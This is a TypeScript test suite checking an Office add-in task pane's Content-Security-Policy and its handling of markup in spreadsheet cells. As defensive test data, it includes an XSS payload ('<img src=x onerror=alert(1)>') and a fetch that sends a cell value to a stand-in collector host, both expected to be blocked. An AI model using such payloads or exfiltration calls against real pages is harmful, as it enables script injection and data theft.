// The page's defences: its Content-Security-Policy, declared and enforced, and text from cells kept as text.
import { checkStep } from "./support/artifacts";
import { useBrowsing } from "./support/browsing";
import { builtPage, declaredPolicy, policyPosition } from "./support/csp";
import { exampleCampaign } from "./support/example-campaign";
import { cspRefusals, openPane, PaneSession, selectCells } from "./support/pane-page";
import { StandInSetup } from "./stand-in/contract";

const browsing = useBrowsing();
const OFFICE_CDN = "https://appsforoffice.microsoft.com";
const MARKUP = "<img src=x onerror=alert(1)>";

describe("the Content-Security-Policy of dist/taskpane.html", () => {
  const policy = declaredPolicy(builtPage());

  it("is declared before anything it governs is loaded", () => {
    const { policy: at, firstResource } = policyPosition(builtPage());
    expect(at).toBeGreaterThan(-1);
    expect(at).toBeLessThan(firstResource);
  });

  it("allows nothing but this add-in's origin and the Office CDN, and inline style elements", () => {
    const allowed = ["'self'", "'none'", OFFICE_CDN];
    const others = [...policy].flatMap(([name, sources]) =>
      sources.filter((source) => !allowed.includes(source)).map((source) => `${name} ${source}`)
    );
    // Fluent's styles where constructable style sheets are missing (Safari before 16.4): docs/csp.md.
    expect(others).toEqual(["style-src 'unsafe-inline'"]);
    expect(policy.get("default-src")).toEqual(["'self'"]);
    expect(policy.get("script-src")).toEqual(["'self'", OFFICE_CDN]);
    expect(policy.get("style-src")).toEqual(["'self'", "'unsafe-inline'"]);
    expect(policy.get("style-src-attr")).toEqual(["'none'"]);
  });

  it("shuts out plugins, a changed base URL and form posts", () => {
    expect(policy.get("object-src")).toEqual(["'none'"]);
    expect(policy.get("base-uri")).toEqual(["'none'"]);
    expect(policy.get("form-action")).toEqual(["'none'"]);
  });
});

describe("the pane in the browser", () => {
  let session: PaneSession;

  beforeAll(async () => {
    const { context, origin } = browsing();
    session = await openPane(context, origin, exampleCampaign("en-US"));
    await session.page.waitForSelector('[data-key="use-posts"]');
  });

  afterAll(() => session?.page.close());

  const refusedSince = async (count: number) =>
    (await cspRefusals(session.page)).slice(count).map(({ directive }) => directive);

  it("runs no string as code", async () => {
    const before = (await cspRefusals(session.page)).length;
    const outcome = await session.page.evaluate(() => {
      // In a task of the page's own: code evaluated by the test tool itself is exempt from the CSP.
      const attempt = (run: () => unknown) =>
        new Promise<string>((resolve) =>
          setTimeout(() => {
            try {
              resolve(`ran: ${run()}`);
            } catch (error) {
              resolve((error as Error).name);
            }
          })
        );
      // eslint-disable-next-line no-eval -- the CSP must refuse exactly this
      return Promise.all([attempt(() => eval("1 + 1")), attempt(() => new Function("return 1"))]);
    });
    expect(outcome).toEqual(["EvalError", "EvalError"]);
    expect(await refusedSince(before)).toEqual(["script-src", "script-src"]);
  });

  it("runs no inline script or inline handler, and applies no style attribute", async () => {
    const before = (await cspRefusals(session.page)).length;
    const outcome = await session.page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "document.body.dataset.inline = 'ran'";
      document.head.append(script);
      const button = document.createElement("button");
      button.setAttribute("onclick", "document.body.dataset.handler = 'ran'");
      button.setAttribute("style", "outline: 7px solid red");
      document.body.append(button);
      button.click();
      const outline = getComputedStyle(button).outlineStyle;
      button.remove();
      const { inline, handler } = document.body.dataset;
      return [inline, handler, outline];
    });
    expect(outcome).toEqual([undefined, undefined, "none"]);
    // The events arrive in no fixed order.
    expect((await refusedSince(before)).sort()).toEqual([
      "script-src-attr",
      "script-src-elem",
      "style-src-attr",
    ]);
  });

  it("applies an inline style element, as Fluent's styles are where constructable style sheets are missing", async () => {
    const before = (await cspRefusals(session.page)).length;
    const outline = await session.page.evaluate(() => {
      const style = document.createElement("style");
      style.textContent = "#app { outline: 7px solid red }";
      document.head.append(style);
      const applied = getComputedStyle(document.getElementById("app") as HTMLElement).outlineStyle;
      style.remove();
      return applied;
    });
    expect(outline).toBe("solid");
    expect(await refusedSince(before)).toEqual([]);
  });

  it("connects to no other site", async () => {
    const before = (await cspRefusals(session.page)).length;
    const outcome = await session.page.evaluate(() =>
      fetch("https://collector.example/cells?value=1").then(
        () => "sent",
        () => "refused"
      )
    );
    expect(outcome).toBe("refused");
    expect(await refusedSince(before)).toEqual(["connect-src"]);
    expect(session.requests.filter((request) => request.blocked)).toEqual([]);
  });
});

/** A posts table whose sheet name, one header and one number cell each hold markup. */
function markupWorkbook(): StandInSetup {
  const values = [
    ["Creator", MARKUP, "Impressions"],
    ["Mia Brews", 1, 8000],
    ["Coffee Lab Leo", 2, MARKUP],
  ];
  return { displayLanguage: "en-US", sheets: [{ name: MARKUP, data: [{ at: "A1", values }] }] };
}

describe("markup in the user's cells", () => {
  it("shows as text in the mapping, the source's address and the problems, and never runs", async () => {
    const { context, origin } = browsing();
    const { page, errors, requests } = await openPane(context, origin, markupWorkbook());
    await page.waitForSelector('[data-key="use-posts"]');
    await selectCells(page, MARKUP, "A1");
    await page.click('[data-key="use-posts"]');
    await page.waitForSelector('[data-key="remove-posts"]');
    const posts = page.locator('[data-kind="posts"]');
    // Each measure's drop-down lists the headers, the markup among them, as text.
    const headers = await posts
      .locator('[data-measure="impressions"] fluent-option')
      .allTextContents();
    expect(headers.slice(1).map((text) => text.trim())).toEqual(["Creator", MARKUP, "Impressions"]);
    expect(await posts.locator(".where").textContent()).toBe(`${MARKUP}!A1:C3: 2 data rows`);
    expect(await posts.locator(".problems").textContent()).toContain(`"${MARKUP}"`);
    const images = await page.evaluate(() => {
      const count = (root: Document | ShadowRoot): number =>
        root.querySelectorAll("img").length +
        Array.from(root.querySelectorAll("*")).reduce(
          (sum, element) => sum + (element.shadowRoot ? count(element.shadowRoot) : 0),
          0
        );
      return count(document);
    });
    expect(images).toBe(0);
    expect(requests.filter((request) => new URL(request.url).pathname === "/x")).toEqual([]);
    expect(errors).toEqual([]);
    expect(await checkStep(page, "markup-in-cells")).toEqual({ cutText: [], inaccessible: [] });
    await page.close();
  });
});
